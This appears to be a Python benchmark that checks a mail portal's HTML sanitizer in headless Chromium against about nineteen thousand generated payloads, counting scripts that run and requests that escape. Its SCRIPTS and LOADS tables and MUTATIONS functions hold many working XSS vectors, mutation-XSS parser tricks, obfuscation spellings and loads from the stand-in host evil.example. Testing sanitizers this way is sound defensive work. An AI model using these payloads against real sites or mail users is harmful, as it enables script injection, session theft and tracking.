# ruff: noqa: E501 - tables of attacks, one on a piece
"""Nineteen thousand attacks in HTML, looked at in Chromium: python -m bench.payloads [COUNT]

Each is cleaned as the portal cleans a mail and shown twice: as the portal shows it, in a sandboxed frame under its
policy, and without sandbox and policy, so that only the cleaning stands between the attack and the browser. Wrong is
every script that runs, every request for anything, and every element, attribute or address that could lead to one.
"""

from __future__ import annotations

import argparse
import itertools
import re
import shutil
import sys
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from functools import lru_cache

import click
from playwright.sync_api import Browser, Route, sync_playwright

from gateway.mail.html.display import FRAME_STYLE, display_html
from gateway.web.answers import frame
from gateway.web.headers import PAGE_POLICY

ORIGIN = "http://portal.test"
AT_ONCE = 500
"""Payloads on one page."""
TOGETHER = 25
"""Cleaned payloads in one frame, each in a section of its own that it must not leave. A frame costs more than what is
in it."""
WAIT_MS = 120_000
RUN = "pwned(1)"
LOAD = "https://evil.example/x"

SCRIPTS = (
    *("<script>{js}</script>", "<script src=data:text/javascript,{js}></script>", "<SCRIPT>{js}</SCRIPT >"),
    *("<svg><script>{js}</script></svg>", "<svg onload={js}>", "<svg/onload={js}>", "<body onload={js}>"),
    *("<img src=x onerror={js}>", "<img src=x: onerror='{js}'>", "<image src=x onerror={js}>"),
    *("<input autofocus onfocus={js}>", "<textarea autofocus onfocus={js}>", "<select autofocus onfocus={js}>"),
    *("<video><source onerror={js}>", "<audio src=x onerror={js}>", "<video src=x onerror={js}>"),
    *("<details open ontoggle={js}>x", "<marquee onstart={js}>x", "<iframe onload={js}></iframe>"),
    *("<iframe srcdoc='&lt;script&gt;parent.{js}&lt;/script&gt;'></iframe>", "<iframe src=javascript:{js}>"),
    *("<object data=javascript:{js}>", "<object data='data:text/html,<script>{js}</script>'>", "<embed src=javascript:{js}>"),
    *("<a href=javascript:{js}>x</a>", "<a href='java&#10;script:{js}'>x</a>", "<a href='&#1;javascript:{js}'>x</a>"),
    *("<a href='data:text/html,<script>{js}</script>'>x</a>", "<a href=vbscript:{js}>x</a>", "<area href=javascript:{js}>"),
    *("<form action=javascript:{js}><input type=submit>", "<button formaction=javascript:{js} form=f>x</button>"),
    *("<isindex action=javascript:{js}>", "<math href=javascript:{js}>x</math>", "<svg><a xlink:href=javascript:{js}>x</a>"),
    *("<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><set attributeName=onload to={js}>"),
    *("<svg><use href='data:image/svg+xml,<svg onload={js}>'>", "<svg><foreignObject><img src=x onerror={js}>"),
    *("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={js}&gt;'>",),
    *("<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",),
    *("<svg></p><style><a id='</style><img src=1 onerror={js}>'>", "<math></p><style><!--</style><img src/onerror={js}>"),
    *("<noscript><p title='</noscript><img src=x onerror={js}>'>", "<noembed><img src=x onerror={js}></noembed>"),
    *("<xmp><img src=x onerror={js}></xmp>", "<plaintext><img src=x onerror={js}>", "<listing><img src=x onerror={js}></listing>"),
    *("<textarea></textarea><img src=x onerror={js}>", "<title><img title='</title><img src=x onerror={js}>'>"),
    *("<template><script>{js}</script></template>", "<!--><img src=x onerror={js}>-->", "<![CDATA[<img src=x onerror={js}>]]>"),
    *("<?xml version='1.0'?><img src=x onerror={js}>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={js}>'>]>&y;"),
    *("<div style='animation-name:x' onanimationstart={js}>", "<style>@keyframes x{{}}</style><b style='animation:x 1s' onanimationstart={js}>x"),
    *("<x onclick={js} tabindex=1 id=x autofocus onfocus={js}>x", "<b contenteditable autofocus onfocus={js}>x</b>"),
    *("<base href=javascript:{js}//><a href=x>x</a>", "<meta http-equiv=refresh content='0;url=javascript:{js}'>"),
    *("<link rel=import href='data:text/html,<script>{js}</script>'>", "<frameset onload={js}>", "<keygen autofocus onfocus={js}>"),
    *("<img src='x`onerror={js}`'>", "<img alt='`><img src=x onerror={js}>'>", "<a title='\"><img src=x onerror={js}>'>x</a>"),
)  # fmt: skip
LOADS = (
    *("<img src={url}>", "<img src=//evil.example/x>", "<img src='\\\\evil.example\\x'>", "<img srcset='{url} 1x'>"),
    *("<img src=x lowsrc={url} dynsrc={url}>", "<picture><source srcset={url}><img></picture>", "<input type=image src={url}>"),
    *("<video poster={url}></video>", "<video src={url} autoplay></video>", "<audio src={url} autoplay></audio>", "<track src={url}>"),
    *("<link rel=stylesheet href={url}>", "<link rel=preload as=image href={url}>", "<link rel='shortcut icon' href={url}>"),
    *("<link rel=prefetch href={url}>", "<style>@import '{url}';</style>", "<style>*{{background:url({url})}}</style>"),
    *("<style>@font-face{{font-family:x;src:url({url})}}p{{font-family:x}}</style><p>x", "<style>b{{content:url({url})}}</style>"),
    *("<div style='background:url({url})'>x</div>", "<div style='background-image:url(\"{url}\")'>x</div>"),
    *("<div style='background:\\75rl({url})'>x</div>", "<div style='background:u/**/rl({url})'>x</div>"),
    *("<div style='list-style:url({url})'>x</div>", "<li style='list-style-image:url({url})'>x", "<div style='cursor:url({url}),auto'>x</div>"),
    *("<div style='border-image:url({url}) 1'>x</div>", "<div style='filter:url({url}#x)'>x</div>", "<div style='mask:url({url})'>x</div>"),
    *("<div style='background:image-set(\"{url}\" 1x)'>x</div>", "<div style='--x:url({url});background:var(--x)'>x</div>"),
    *("<div style='background:-webkit-image-set(url({url}) 1x)'>x</div>", "<div style='shape-outside:url({url});float:left'>x</div>"),
    *("<table background={url}><tr><td background={url}>x</table>", "<body background={url}>x", "<tr background={url}><td>x"),
    *("<iframe src={url}></iframe>", "<frame src={url}>", "<object data={url}></object>", "<embed src={url}>", "<applet code={url}>"),
    *("<svg><image href={url} /></svg>", "<svg><image xlink:href={url} /></svg>", "<svg><use href={url}#x></svg>"),
    *("<svg><feImage href={url}></svg>", "<svg><style>@import '{url}'</style></svg>", "<math><mglyph src={url}></math>"),
    *("<meta http-equiv=refresh content='0;url={url}'>", "<base href={url}><img src=x>", "<form action={url}><input autofocus></form>"),
    *("<a href={url} ping={url}>x</a>", "<html manifest={url}>", "<bgsound src={url}>", "<layer src={url}>", "<xml src={url}>"),
    *("<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{url}\"/></svg>'>",),
    *("<portal src={url}></portal>", "<script src={url}></script>", "<img src=cid:x style='content:url({url})'>", "<hr style='background:url({url})'>"),
)  # fmt: skip
AROUND = (
    *("{}", "<p>Hello <b>{}</b></p>", "<table><tr><td>{}</td></tr></table>", "<table>{}</table>", "<ul><li>{}"),
    *("<blockquote><div>{}", "<style>{}</style>", "<title>{}</title>", "<a href='https://ok.example'>{}</a>"),
    *("<!-- {} -->", "<div title=\"{}\">x</div>", "<svg>{}</svg>", "<math><mi>{}</mi></math>", "<select><option>{}"),
)  # fmt: skip


def _in_mixed_case(html: str) -> str:
    return re.sub(r"<[a-z]+| on[a-z]+=", lambda m: m[0].swapcase(), html)


def _with_entities(html: str) -> str:
    """Values of attributes as character references, as far as they hold a colon or parenthesis."""
    return re.sub(r"(?<==)[^\s<>'\"]+", lambda m: "".join(f"&#x{ord(c):x};" for c in m[0]), html)


def _quoted(html: str) -> str:
    return re.sub(r"=([^\s<>'\"]+)", r'="\1"', html)


MUTATIONS: tuple[Callable[[str], str], ...] = (
    lambda html: html,
    _in_mixed_case,
    _with_entities,
    _quoted,
    lambda html: re.sub(r" (?=[a-z]+=)", "/", html),
    lambda html: re.sub(r"(<[a-z]+) ", "\\1\n\t", html),
    lambda html: html.replace("<", "<\0", 1),
    lambda html: html.replace("<", "<<", 1),
    lambda html: html.rstrip(">"),
    lambda html: html.replace("javascript:", "java\tscript:").replace("https:", "ht\ntps:"),
    lambda html: html.replace("=", " = "),
    lambda html: html + html,
)


def payloads() -> Iterator[str]:
    """Every attack in every surrounding in every spelling, each once, in an order that mixes them."""
    attacks = [form.format(js=RUN) for form in SCRIPTS] + [form.format(url=LOAD) for form in LOADS]
    found = dict.fromkeys(
        around.format(mutate(attack))
        for around, mutate, attack in itertools.product(AROUND, MUTATIONS, attacks)
    )
    step = 7_919  # a prime: neighbours of the list stand far apart
    items = list(found)
    return (items[number * step % len(items)] for number in range(len(items)))


@dataclass
class Watch:
    """What the browser did that it should not."""

    ran: int = 0
    asked: set[str] = field(default_factory=set)
    remains: set[str] = field(default_factory=set)

    @property
    def is_quiet(self) -> bool:
        """Whether nothing happened at all."""
        return not (self.ran or self.asked or self.remains)


Document = Callable[[Sequence[str]], tuple[str, dict[str, str]]]


def as_shown(some: Sequence[str]) -> tuple[str, dict[str, str]]:
    """The frame's document as the portal answers with it."""
    sections = (f"<section>{_cleaned(payload)}</section>" for payload in some)
    response = frame("".join(sections), FRAME_STYLE)
    return bytes(response.body).decode(), dict(response.headers)


@lru_cache(maxsize=AT_ONCE)
def _cleaned(payload: str) -> str:
    return display_html(payload, {}).html


def as_cleaned(some: Sequence[str]) -> tuple[str, dict[str, str]]:
    """The same without its policy: what is in it could do whatever it likes."""
    return as_shown(some)[0], {}


def as_sent(some: Sequence[str]) -> tuple[str, dict[str, str]]:
    """The attack itself, to see that it is one."""
    return f"<!doctype html><body><section>{''.join(some)}</section></body>", {}


# What may stand in a frame's document, asked of its DOM when nothing keeps us out.
_REMAINS = """counts => [...document.querySelectorAll("iframe")].flatMap((frame, number) => {
    const all = [...(frame.contentDocument?.querySelectorAll("body *") ?? [])];
    const sections = frame.contentDocument?.querySelectorAll("body > section").length;
    const left = frame.contentDocument?.querySelectorAll("body > :not(section)").length;
    return (sections === counts[number] && !left ? [] : ["left its section"]).concat(all.flatMap(e => [
        ...(/^(script|style|svg|math|form|input|button|iframe|object|embed|link|meta|base|template)$/i.test(e.tagName)
            ? [e.tagName] : []),
        ...[...e.attributes].filter(a => /^on|^srcset$|^action$|^formaction$|^ping$/i.test(a.name)).map(a => a.name),
        ...(e.href && !/^(https?|mailto|tel):$/.test(e.protocol) ? [String(e.href)] : []),
    ]));
})"""


def look(
    browser: Browser,
    some: Sequence[str],
    document: Document,
    *,
    sandbox: str | None,
    together: int = TOGETHER,
) -> Watch:
    """Show these payloads, so many in each frame, and watch."""
    watch = Watch()
    groups = [some[start : start + together] for start in range(0, len(some), together)]
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script("window.pwned = () => console.log('pwned')")
    page.on("console", lambda message: _count(watch, message.text))
    page.on("dialog", lambda dialog: dialog.dismiss())
    context.route("**/*", lambda route: _answer(route, watch, groups, document, sandbox))
    page.goto(f"{ORIGIN}/page", wait_until="load", timeout=WAIT_MS)
    if sandbox is None:
        page.wait_for_load_state("networkidle")
        watch.remains = set(page.evaluate(_REMAINS, [len(group) for group in groups]))
    context.close()
    return watch


def _count(watch: Watch, text: str) -> None:
    watch.ran += text == "pwned"


def _answer(
    route: Route,
    watch: Watch,
    groups: Sequence[Sequence[str]],
    document: Document,
    sandbox: str | None,
) -> None:
    """Be the portal; nobody else is there."""
    path = route.request.url.removeprefix(ORIGIN)
    if path == "/page":
        allowed = "" if sandbox is None else f'sandbox="{sandbox}"'
        frames = (f'<iframe src="/{number}" {allowed}></iframe>' for number in range(len(groups)))
        headers = {"content-security-policy": PAGE_POLICY} if sandbox is not None else {}
        route.fulfill(body="".join(frames), content_type="text/html", headers=headers)
    elif path[1:].isdigit() and int(path[1:]) < len(groups):
        body, headers = document(groups[int(path[1:])])
        route.fulfill(body=body, headers={**headers, "content-type": "text/html; charset=utf-8"})
    else:
        watch.asked.add(route.request.url)
        route.abort()


SANDBOX = "allow-popups allow-popups-to-escape-sandbox"


def judge(browser: Browser, some: Sequence[str]) -> list[Watch]:
    """What happened as the portal shows them, and with the cleaning alone."""
    return [
        look(browser, some, as_shown, sandbox=SANDBOX),
        look(browser, some, as_cleaned, sandbox=None),
    ]


def open_browser(play: object) -> Browser:
    """Debian's Chromium. Raises RuntimeError where there is none."""
    path = shutil.which("chromium")
    if path is None:
        raise RuntimeError("chromium is missing: apt-get install chromium")
    arguments = ["--no-sandbox", "--disable-background-networking"]
    return play.chromium.launch(executable_path=path, args=arguments)  # type: ignore[attr-defined, no-any-return]


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("count", type=int, nargs="?", default=sys.maxsize)
    items = list(itertools.islice(payloads(), parser.parse_args().count))
    groups = [items[start : start + AT_ONCE] for start in range(0, len(items), AT_ONCE)]
    loud: list[tuple[int, Watch]] = []
    with sync_playwright() as play:
        browser = open_browser(play)
        with click.progressbar(groups, label="Payloads") as shown:
            for number, group in enumerate(shown):
                loud += [(number, watch) for watch in judge(browser, group) if not watch.is_quiet]
        browser.close()
    for number, watch in loud:
        print(
            f"group {number}: {watch.ran} scripts, {sorted(watch.asked)}, {sorted(watch.remains)}"
        )
    ran, asked = sum(w.ran for _, w in loud), sum(len(w.asked) for _, w in loud)
    print(f"{len(items)} payloads, each shown twice: {ran} scripts ran, {asked} requests")
    sys.exit(1 if loud else 0)


if __name__ == "__main__":
    main()
